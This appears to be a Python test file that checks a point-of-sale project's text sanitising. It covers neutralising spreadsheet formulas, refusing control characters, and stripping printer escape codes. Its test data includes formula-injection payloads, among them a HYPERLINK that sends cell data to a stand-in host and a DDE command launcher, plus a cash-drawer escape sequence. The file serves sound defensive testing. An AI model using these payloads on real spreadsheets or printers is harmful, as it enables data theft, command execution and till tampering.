"""Stored text made inert: formulas neutralised, control characters refused or dropped."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from comptoir.logic.errors import FieldProblem
from comptoir.logic.text import (
    FORMULA_STARTS,
    check_no_controls,
    neutralise_formula,
    spreadsheet_text,
    without_controls,
)
from comptoir.printing.text import printable


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "   =1+1",
    ],
)
def test_formula_starts_become_text(text):
    assert neutralise_formula(text) == "'" + text


def test_ordinary_text_is_left_alone():
    assert neutralise_formula("Jean-Pierre") == "Jean-Pierre"
    assert neutralise_formula("O'Brien") == "O'Brien"


@given(st.text())
def test_no_export_cell_starts_a_formula(text):
    cell = spreadsheet_text(text)
    assert not cell.lstrip(" ").startswith(FORMULA_STARTS)
    assert not any(ch in cell for ch in "\x00\x1b\r\t")


def test_numbers_stay_numbers():
    from decimal import Decimal

    assert spreadsheet_text(Decimal("-20.00")) == Decimal("-20.00")


def test_control_characters_are_refused_on_input():
    with pytest.raises(FieldProblem) as info:
        check_no_controls("Dupont\x1bp\x00\x19")
    assert info.value.params == {"character": "U+001B"}
    assert check_no_controls("line one\nline two", multiline=True) == "line one\nline two"
    with pytest.raises(FieldProblem):
        check_no_controls("line one\nline two")
    assert check_no_controls("👩‍🔧 Zoë") == "👩‍🔧 Zoë"  # joiners make emoji whole


def test_printers_get_printable_characters_only():
    # ESC p 0 25 250 opens the cash drawer on an ESC/POS printer.
    assert printable("Dupont\x1bp\x00\x19\xfa") == "Dupontpú"
    assert without_controls("a\tb\x07c") == "a bc"
